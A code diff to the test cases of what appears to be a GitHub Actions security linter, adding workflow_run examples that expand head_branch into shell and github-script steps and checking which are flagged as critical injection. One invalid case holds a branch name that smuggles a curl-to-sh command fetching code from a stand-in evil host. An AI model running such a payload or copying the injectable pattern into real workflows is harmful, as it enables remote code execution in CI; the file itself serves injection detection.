@@ -27,6 +27,20 @@ const findIssueThen = (script: string, read: string, withLines = ''): string =>
     ),
     'issues'
   )
+/**
+ * A workflow_run workflow whose `on.workflow_run` holds `filter` (its branch filter lines), with a
+ * step deleting the triggering run's branch by expanding its head_branch into a shell command and
+ * into github-script code.
+ */
+const deleteRunBranch = (filter: string): string =>
+  push(
+    job(
+      't',
+      '      - run: git push origin --delete "${{ github.event.workflow_run.head_branch }}"\n' +
+        `      - uses: actions/github-script@${SHA}\n        with:\n          script: |\n            await github.rest.git.deleteRef({ ...context.repo, ref: 'heads/\${{ github.event.workflow_run.head_branch }}' })\n`
+    ),
+    `\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\n${filter}`
+  )
 /** A script filtering the repository's issues by the title it is given, returning the API's issue objects. */
 const FILTER_BY_TITLE = 'return (await github.rest.issues.listForRepo(context.repo)).data.filter((issue) => issue.title.includes(process.env.TITLE) && issue.number > 0)'
 /** A workflow_run job `id` checking out the run's head (`with:` lines `checkout` beside `ref:`), then building it. */
@@ -1206,10 +1220,33 @@ export const workflowCases: CaseTable = {
         name: 'the number of an issue from a paginated API list kept in a variable, then filtered',
         code: findIssueThen('const issues = await github.paginate(github.rest.issues.listForRepo, { owner: context.repo.owner, state: "all" }); return issues.filter((issue) => issue.title.includes(process.env.TITLE))', 'fromJSON(steps.find.outputs.result)[0].number')
       },
-      { name: "an API object's id, read by name, from an explicitly JSON result", code: findIssueThen(FILTER_BY_TITLE, "fromJSON(steps.find.outputs.result)[0]['id']", '          result-encoding: json\n') }
+      { name: "an API object's id, read by name, from an explicitly JSON result", code: findIssueThen(FILTER_BY_TITLE, "fromJSON(steps.find.outputs.result)[0]['id']", '          result-encoding: json\n') },
+      {
+        name: "workflow_run filtered to plain branch names: the run's head_branch is one of them",
+        code: deleteRunBranch('    branches:\n      - update/main\n      - update/release-8.x\n')
+      },
+      { name: 'workflow_run filtered to one plain branch name written as a scalar', code: deleteRunBranch('    branches: main\n') }
     ],
     invalid: [
       { code: push(job('t', '      - run: echo "${{ github.event.comment.body }}"\n'), 'issue_comment'), errors: [{ line: 10, severity: 'critical' }] },
+      ...[
+        ['no branch filter', ''],
+        ['a glob pattern among the names', "    branches: [update/main, 'update/**']\n"],
+        ['a literal name preceded by an exclusion', "    branches: [main, '!main']\n"],
+        ['an escaped glob character', "    branches: ['release\\+1']\n"],
+        ['branches-ignore', '    branches-ignore: [main]\n'],
+        ['a listed name holding shell syntax', "    branches: ['x$(curl${IFS}evil.sh|sh)']\n"]
+      ].map(([name, filter]) => {
+        const code = deleteRunBranch(filter)
+        return {
+          name: `workflow_run head_branch with ${name}`,
+          code,
+          errors: [
+            { line: lineOf(code, 'git push origin'), severity: 'critical' as const, message: /head_branch/ },
+            { line: lineOf(code, 'deleteRef'), severity: 'critical' as const }
+          ]
+        }
+      }),
       { name: 'the whole event of an issue_comment run in a script', code: push(job('t', WHOLE_EVENT_RUN), 'issue_comment'), errors: [{ line: 10, severity: 'critical' }] },
       { name: "a github-script result's text field, when the step was given the title", code: findIssueThen(FILTER_BY_TITLE, 'fromJSON(steps.find.outputs.result)[0].title'), errors: [{ line: 20, severity: 'critical' }] },
       { name: 'a github-script result read whole, when the step was given the title', code: findIssueThen(FILTER_BY_TITLE, 'steps.find.outputs.result'), errors: [{ line: 20, severity: 'critical' }] },
